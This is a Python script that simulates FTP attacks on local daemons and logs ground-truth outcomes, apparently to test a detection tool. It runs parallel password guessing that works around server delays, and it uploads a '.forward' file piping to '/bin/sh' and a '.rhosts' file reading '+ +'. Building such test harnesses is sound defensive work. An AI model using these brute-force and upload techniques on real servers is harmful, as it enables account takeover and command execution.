#!/usr/bin/env python3
"""The attacks of ftp-attack.sh, made with ftplib against each daemon.

    ftp-client.py TRUTH_TSV VICTIM PASSWORD DAEMON:NET:PORT...

Each attacker binds its own source address NET.N, so the sources are told apart as on a
real network. Every try is written to TRUTH_TSV as: source, daemon, attack, tries
(password tries made), outcome (what the server answered: `failed`, `logged-in`,
`accepted`, `refused`).
"""
import ftplib
import io
import sys
import threading

truth_path, victim, password = sys.argv[1], sys.argv[2], sys.argv[3]
truth = open(truth_path, "a")


lock = threading.Lock()


def record(source, daemon, attack, tries, outcome):
    with lock:
        truth.write(f"{source}\t{daemon}\t{attack}\t{tries}\t{outcome}\n")
        truth.flush()


def connect(source, port):
    ftp = ftplib.FTP()
    ftp.connect("127.0.0.1", port, timeout=10, source_address=(source, 0))
    return ftp


def one_try(source, port, user, pw, results):
    ftp = connect(source, port)
    try:
        ftp.login(user, pw)
        results.append(True)
    except ftplib.error_perm:
        results.append(False)
    finally:
        try:
            ftp.quit()
        except Exception:
            ftp.close()


def tries(source, port, user, passwords, last=None):
    """One connection per password, all at once (servers cut a session after a few
    failures, and pure-ftpd sleeps seconds before each answer to a wrong password), then
    `last` alone. Returns how many were refused and whether `last` logged in."""
    results = []
    threads = [threading.Thread(target=one_try, args=(source, port, user, pw, results)) for pw in passwords]
    for t in threads:
        t.start()
    for t in threads:
        t.join()
    ok = False
    if last is not None:
        final = []
        one_try(source, port, user, last, final)
        ok = final == [True]
        results.extend(final)
    return results.count(False), ok


def upload(ftp, path, data=b"+ +\n"):
    try:
        ftp.storbinary(f"STOR {path}", io.BytesIO(data))
        return "accepted"
    except ftplib.error_perm as e:
        print(f"{path}: {e}", file=sys.stderr)
        return "refused"


def attack(spec):
    daemon, net, port = spec.split(":")
    port = int(port)
    src = lambda n: f"{net}.{n}"

    def owner(source, port, attack):
        """The owner: a login and a download."""
        ftp = connect(source, port)
        ftp.login(victim, password)
        ftp.retrbinary("RETR report.txt", lambda b: None)
        ftp.quit()
        record(source, daemon, attack, 0, "logged-in")

    # E: the owner logs in from the usual address before the attacks (and after them).
    owner(src(14), port, "benign-owner-before")

    # A: a guessing burst against the real account: 10 wrong passwords.
    failed, _ = tries(src(10), port, victim, [f"wrong{i}" for i in range(10)])
    record(src(10), daemon, "burst-victim", failed, "failed")

    # B: guessing, then the right password (a guessed login).
    failed, ok = tries(src(11), port, victim, ["123456", "password", "qwerty", "letmein", "Summer2023"], password)
    record(src(11), daemon, "guessed-login", failed, "logged-in" if ok else "failed")

    # C: passwords for accounts that do not exist: 4 accounts, 2 tries each.
    n = 0
    for user in ["admin", "oracle", "test", "guest1"]:
        n += tries(src(12), port, user, ["admin", "123456"])[0]
    record(src(12), daemon, "invalid-users", n, "failed")

    # D: anonymous login and uploads of .forward and .rhosts (accepted in the writable
    # `up`, refused in the read-only root and `pub`), a plain file, a file into incoming.
    ftp = connect(src(13), port)
    ftp.login("anonymous", "mozilla@example.com")
    # (pure-ftpd's two instances share one anonymous area: the plain files are named
    # after the daemon, as anonymous users may not overwrite files.)
    for path in ["/up/.forward", "/up/.rhosts", "/.forward", "/pub/.rhosts", f"/up/notes-{daemon}.txt", f"/incoming/drop-{daemon}.txt"]:
        data = b"|/bin/sh -c 'echo owned'\n" if "forward" in path else b"+ +\n"
        record(src(13), daemon, f"anon-upload {path}", 0, upload(ftp, path, data))
    ftp.quit()
    record(src(13), daemon, "anon-login", 0, "logged-in")

    owner(src(14), port, "benign-owner-after")

    # F: a benign anonymous download.
    ftp = connect(src(15), port)
    ftp.login("anonymous", "user@example.com")
    ftp.retrbinary("RETR /pub/README", lambda b: None)
    ftp.quit()
    record(src(15), daemon, "benign-anon-download", 0, "logged-in")


# The daemons are attacked at the same time, each by its own thread (and sources).
threads = [threading.Thread(target=attack, args=(spec,)) for spec in sys.argv[4:]]
for t in threads:
    t.start()
for t in threads:
    t.join()
